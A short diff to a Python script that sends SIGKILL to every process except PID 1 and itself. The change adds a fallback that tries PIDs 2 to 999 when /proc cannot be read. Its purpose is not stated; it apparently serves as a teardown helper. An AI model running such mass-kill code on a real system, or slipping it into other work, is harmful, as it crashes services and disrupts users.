@@ -2,7 +2,11 @@
 
 import os
 
-for pid in os.listdir("/proc"):
+try:
+    pids = os.listdir("/proc")
+except OSError:
+    pids = map(str, range(2, 1000))
+for pid in pids:
     if pid.isdigit() and int(pid) not in (1, os.getpid()):
         try:
             os.kill(int(pid), 9)
